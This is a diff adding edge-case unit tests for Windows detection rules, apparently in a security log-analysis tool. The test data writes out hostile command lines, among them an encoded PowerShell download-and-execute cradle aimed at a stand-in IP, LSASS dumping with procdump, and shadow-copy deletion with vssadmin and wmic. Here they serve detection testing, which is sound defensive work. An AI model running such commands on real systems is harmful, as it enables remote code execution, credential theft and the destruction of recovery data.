@@ -359,6 +359,150 @@ describe('samples/quickstart: the WS-FIN-07 / SRV-DB-01 intrusion', () => {
   });
 });
 
+/** A Windows event as the readers produce it, for edge cases the samples do not cover. */
+function winEvent(
+  channel: string,
+  eventId: number,
+  fields: Record<string, string | number>,
+): Event {
+  return {
+    ts: Date.parse('2026-11-17T10:00:00Z'),
+    tenant: 'local',
+    source: { product: 'windows' },
+    fields: { Channel: channel, EventID: eventId, Computer: 'WS-TEST-01', ...fields },
+    origin: { format: 'test' },
+  };
+}
+const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
+
+describe('rules/: edge cases', () => {
+  let d: Built;
+  beforeAll(async () => {
+    d = await builtin();
+  });
+  const fires = (e: Event, id: string): boolean => d.ruleset.match(e).some((h) => h.rule.id === id);
+
+  it('encoded PowerShell cradle: any dash or slash, UTF-16LE payload only when it downloads or runs code', () => {
+    const enc = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');
+    const cradle = enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')");
+    const ps = (cmd: string): Event =>
+      winEvent(SYSMON, 1, {
+        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+        OriginalFileName: 'PowerShell.EXE',
+        CommandLine: cmd,
+      });
+    const cases: [string, boolean][] = [
+      [`powershell.exe -nop -w hidden -enc ${cradle}`, true],
+      [`powershell.exe /enc ${cradle}`, true],
+      [`powershell.exe \u2013EncodedCommand ${cradle}`, true],
+      [`powershell.exe -e ${enc('Start-Sleep 1; Invoke-Expression $x')}`, true],
+      [`powershell.exe -enc ${enc('Get-Process | Sort-Object CPU')}`, false],
+      [`powershell.exe -File C:\\Scripts\\DownloadFile.ps1`, false],
+    ];
+    for (const [cmd, want] of cases)
+      expect([cmd, fires(ps(cmd), RULE.encodedCradle)]).toEqual([cmd, want]);
+  });
+
+  it('scheduled task (4698): command in user folders, encoded or hidden PowerShell arguments', () => {
+    const task = (command: string, args?: string): Event =>
+      winEvent('Security', 4698, {
+        TaskName: '\\T',
+        TaskContent: `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions Context="Author"><Exec><Command>${command}</Command>${args === undefined ? '' : `<Arguments>${args}</Arguments>`}</Exec></Actions></Task>`,
+      });
+    const b64 = 'JABhAD0AJwBoAHQAdABwADoALwAvAGUA';
+    const cases: [string, string | undefined, boolean][] = [
+      ['C:\\Users\\a\\AppData\\Roaming\\x.exe', undefined, true],
+      ['%TEMP%\\u.exe', undefined, true],
+      ['C:\\Program Files\\Vendor\\update.exe', undefined, false],
+      ['powershell.exe', '-NoProfile -File \\\\corp\\NETLOGON\\inventory.ps1', false],
+      ['powershell.exe', `-enc ${b64}`, true],
+      ['powershell.exe', `-ExecutionPolicy Bypass -e ${b64}`, true],
+      ['powershell.exe', '-WindowStyle Hidden -File C:\\x.ps1', true],
+      ['powershell.exe', "-c (New-Object Net.WebClient).DownloadString('http://x')|iex", true],
+      ['rundll32.exe', 'C:\\Users\\Public\\x.dll,Start', true],
+      ['mshta.exe', 'javascript:a', true],
+      ['%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe', '/reporting', false],
+      ['cmd.exe', '/c -enclosure x', false],
+    ];
+    for (const [command, args, want] of cases)
+      expect([command, args, fires(task(command, args), RULE.task4698)]).toEqual([
+        command,
+        args,
+        want,
+      ]);
+  });
+
+  it('LSASS access: dumpers and unbacked code, not Defender or query-only handles', () => {
+    const access = (
+      source: string,
+      granted: string,
+      trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4',
+    ): Event =>
+      winEvent(SYSMON, 10, {
+        SourceImage: source,
+        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
+        GrantedAccess: granted,
+        CallTrace: trace,
+      });
+    expect(fires(access('C:\\Tools\\procdump64.exe', '0x1fffff'), RULE.lsass)).toBe(true);
+    expect(fires(access('C:\\Windows\\System32\\Taskmgr.exe', '0x1fffff'), RULE.lsass)).toBe(true);
+    expect(
+      fires(
+        access(
+          'C:\\Windows\\System32\\rundll32.exe',
+          '0x1000',
+          'C:\\Windows\\System32\\dbgcore.DLL+48f2c',
+        ),
+        RULE.lsass,
+      ),
+    ).toBe(true);
+    expect(fires(access('C:\\Windows\\System32\\svchost.exe', '0x1000'), RULE.lsass)).toBe(false);
+    expect(
+      fires(
+        access(
+          'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe',
+          '0x1fffff',
+        ),
+        RULE.lsass,
+      ),
+    ).toBe(false);
+    expect(fires(access('C:\\Windows\\System32\\wininit.exe', '0x1410'), RULE.lsass)).toBe(false);
+  });
+
+  it('ransomware recovery inhibition and privileged group changes', () => {
+    const proc = (image: string, cmd: string): Event =>
+      winEvent(SYSMON, 1, { Image: image, CommandLine: cmd });
+    expect(
+      fires(
+        proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe Delete Shadows /All /Quiet'),
+        RULE.inhibitRecovery,
+      ),
+    ).toBe(true);
+    expect(
+      fires(
+        proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows'),
+        RULE.inhibitRecovery,
+      ),
+    ).toBe(false);
+    expect(
+      fires(
+        proc('C:\\Windows\\System32\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'),
+        RULE.inhibitRecovery,
+      ),
+    ).toBe(true);
+    expect(
+      fires(
+        proc('C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic shadowcopy delete'),
+        RULE.inhibitRecovery,
+      ),
+    ).toBe(true);
+    const add = (sid: string): Event =>
+      winEvent('Security', 4728, { TargetSid: sid, MemberName: 'CN=x' });
+    expect(fires(add('S-1-5-21-1-2-3-512'), RULE.privGroup)).toBe(true);
+    expect(fires(add('S-1-5-21-1-2-3-1104'), RULE.privGroup)).toBe(false);
+  });
+});
+
 describe('samples/linux and samples/zeek', () => {
   let d: Built;
   beforeAll(async () => {
